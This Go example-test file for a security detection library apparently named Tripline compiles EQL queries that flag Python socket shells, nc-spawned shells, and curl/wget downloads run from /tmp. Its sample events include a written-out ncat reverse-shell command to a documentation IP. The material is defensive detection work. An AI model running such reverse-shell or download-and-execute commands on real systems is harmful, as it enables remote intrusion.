package tripline_test

import (
	"errors"
	"fmt"
	"time"

	"github.com/tripline-sec/tripline"
	"github.com/tripline-sec/tripline/eql"
)

// A shell started by Python that connects out within a second.
func Example() {
	q, err := tripline.Compile(`
		sequence by host.id, process.entity_id with maxspan=1s
		  [process where event.type == "start" and process.name : "python*" and process.args : "*socket*"]
		  [network where event.action == "connection_attempted" and not cidrmatch(destination.ip, "127.0.0.0/8")]`,
		tripline.Options{})
	if err != nil {
		fmt.Println(err)
		return
	}
	s := q.NewSession()
	for _, document := range []string{
		`{"@timestamp": "2026-02-03T09:00:00.100Z", "event": {"id": "e1", "category": ["process"], "type": ["start"]},
		  "host": {"id": "h"}, "process": {"entity_id": "p", "name": "python3.11", "args": ["python3", "-c", "import socket"]}}`,
		`{"@timestamp": "2026-02-03T09:00:00.450Z", "event": {"id": "e2", "category": ["network"], "action": "connection_attempted"},
		  "host": {"id": "h"}, "process": {"entity_id": "p", "name": "python3.11"}, "destination": {"ip": "203.0.113.9"}}`,
	} {
		if err := s.Feed([]byte(document)); err != nil {
			fmt.Println(err)
		}
	}
	for m, err := range s.Matches() {
		if err != nil {
			fmt.Println(err)
			return
		}
		fmt.Println(m.Keys, m.Events[0].ID, "then", m.Events[1].ID)
	}
	// Output: [h p] e1 then e2
}

// A query that is wrong says where and what.
func ExampleCompile() {
	query := `process where process.name = "nc"`
	_, err := tripline.Compile(query, tripline.Options{})
	var e *eql.Error
	if errors.As(err, &e) {
		p := e.Problems[0]
		fmt.Println(err)
		fmt.Println(eql.Snippet(query, p.Pos.Line, p.Pos.Col))
		fmt.Println("hint:", p.Hint)
	}
	// Output:
	// line 1:28: unexpected '=', expected 'and', 'or', '|' or the end of the query
	//     1 | process where process.name = "nc"
	//       |                            ^
	// hint: equality is written ==
}

// Two queries judge a stream of events; matches are there at once.
func ExampleSet_NewStream() {
	shell, err := tripline.Compile(`process where process.name == "sh" and process.parent.name : "nc*"`, tripline.Options{})
	if err != nil {
		fmt.Println(err)
		return
	}
	download, err := tripline.Compile(`
		sequence by host.id with maxspan=1m
		  [process where process.name in ("curl", "wget")]
		  [process where process.executable : "/tmp/*"]`, tripline.Options{})
	if err != nil {
		fmt.Println(err)
		return
	}
	set, err := tripline.NewSet(shell, download)
	if err != nil {
		fmt.Println(err)
		return
	}
	stream := set.NewStream(tripline.StreamOptions{Lateness: 10 * time.Second})
	for _, document := range []string{
		`{"@timestamp":"2026-02-03T09:00:00Z","event":{"id":"e1","category":"process"},"host":{"id":"h"},"process":{"name":"curl"}}`,
		`{"@timestamp":"2026-02-03T09:00:05Z","event":{"id":"e2","category":"process"},"host":{"id":"h"},"process":{"executable":"/tmp/x"}}`,
		`{"@timestamp":"2026-02-03T09:00:09Z","event":{"id":"e3","category":"process"},"host":{"id":"h"},
		  "process":{"name":"sh","parent":{"name":"ncat"}}}`,
	} {
		if err := stream.Feed([]byte(document)); err != nil {
			fmt.Println(err)
		}
		for m := range stream.Matches() {
			for _, e := range m.Events {
				fmt.Print(e.ID, " ")
			}
			fmt.Println("by", m.Query)
		}
	}
	stream.Close()
	// Output:
	// e1 e2 by sequence by host.id with maxspan=1m
	//   [process where process.name in ("curl", "wget")]
	//   [process where process.executable : "/tmp/*"]
	// e3 by process where process.name == "sh" and process.parent.name : "nc*"
}

// The rules that come with Tripline make an alert of a reverse shell.
func ExampleLoadRules() {
	rules, err := tripline.LoadRules("builtin")
	if err != nil {
		fmt.Println(err)
		return
	}
	set, err := tripline.SetOf(rules)
	if err != nil {
		fmt.Println(err)
		return
	}
	stream := set.NewStream(tripline.StreamOptions{OnMatch: func(m tripline.Match) {
		documents, err := m.Rule.Alert(m, time.Now())
		fmt.Println(m.Rule.Severity, m.Rule.Name, len(documents), err)
	}})
	for _, document := range []string{
		`{"@timestamp":"2026-02-03T09:00:00.100Z","event":{"id":"e1","category":["process"],"type":["start"],"action":"exec"},
		  "host":{"id":"h","os":{"type":"linux"}},
		  "process":{"entity_id":"p","name":"ncat","args":["ncat","-e","/bin/sh","203.0.113.9","4444"],"args_count":5,"parent":{"name":"bash"}}}`,
		`{"@timestamp":"2026-02-03T09:00:00.450Z","event":{"id":"e2","category":["network"],"type":["start"],"action":"connection_attempted"},
		  "host":{"id":"h","os":{"type":"linux"}},
		  "process":{"entity_id":"p","name":"ncat"},"destination":{"ip":"203.0.113.9","port":4444}}`,
	} {
		if err := stream.Feed([]byte(document)); err != nil {
			fmt.Println(err)
		}
	}
	stream.Close()
	// Output: medium Potential Reverse Shell via Suspicious Child Process 3 <nil>
}

// Another set takes over between two events. What unfinished sequences have seen
// stays with the queries that are in both.
func ExampleStream_Reload() {
	login := `sequence by user.name with maxspan=1m [any where event.action == "failed"] [any where event.action == "ok"]`
	set := func(queries ...string) *tripline.Set {
		var members []tripline.Member
		for _, text := range queries {
			q, err := tripline.Compile(text, tripline.Options{})
			if err != nil {
				panic(err)
			}
			members = append(members, q)
		}
		s, err := tripline.NewSet(members...)
		if err != nil {
			panic(err)
		}
		return s
	}
	stream := set(login).NewStream(tripline.StreamOptions{OnMatch: func(m tripline.Match) { fmt.Println(m.Keys, m.Events[0].ID, m.Events[1].ID) }})
	feed := func(document string) {
		if err := stream.Feed([]byte(document)); err != nil {
			fmt.Println(err)
		}
	}
	feed(`{"@timestamp":"2026-02-03T09:00:00Z","event":{"id":"e1","action":"failed"},"user":{"name":"root"}}`)
	stream.Reload(set(`any where event.action == "reboot"`, login))
	feed(`{"@timestamp":"2026-02-03T09:00:30Z","event":{"id":"e2","action":"ok"},"user":{"name":"root"}}`)
	// Output: [root] e1 e2
}
